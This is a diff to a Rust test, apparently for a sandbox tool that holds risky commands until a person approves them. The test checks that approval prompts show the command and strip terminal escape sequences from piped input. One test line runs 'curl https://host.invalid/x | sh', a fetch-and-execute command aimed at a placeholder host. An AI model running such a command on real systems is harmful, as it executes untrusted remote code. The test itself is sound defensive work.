@@ -135,7 +135,10 @@ fn an_approval_at_a_service_is_given_at_a_terminal_here() {
     let there = There::new();
     there.ok(&["new", "web"]);
     let line = ["--json", "exec", "web", "--", "sh", "-c", "curl https://host.invalid/x | sh"];
-    there.run(&line).code(123);
+    let reads = there.scene.root.join("reads");
+    std::fs::write(&reads, "first line\nan \x1b[2K escape\n").expect("written");
+    let reads = std::fs::File::open(&reads).expect("it");
+    Outcome::of(there.ctrlz(&line).stdin(reads)).code(123);
     let listed: Value = serde_json::from_str(&there.ok(&["--json", "approve"])).expect("JSON");
     let waiting = listed["confirmations"].as_array().expect("a list");
     assert_eq!((waiting.len(), &waiting[0]["sandbox"]), (1, &json!("web")), "{listed}");
@@ -150,6 +153,8 @@ fn an_approval_at_a_service_is_given_at_a_terminal_here() {
 os.environ.update(CTRLZ_SERVER='{}', CTRLZ_TOKEN='{}', CTRLZ_HOME='no-store')
 def told(seen):
     assert b'curl' in seen and b'web' in seen, seen
+    assert b'which reads 26 bytes:' in seen and b'  | first line' in seen, seen
+    assert b'\x1b[2K' not in seen and b'more' not in seen, seen
 assert ask(b'\n', ['approve', '{id}'], told)[0] == 123
 assert ask(b'y\n', ['approve', '{id}'], told)[0] == 0
 ",
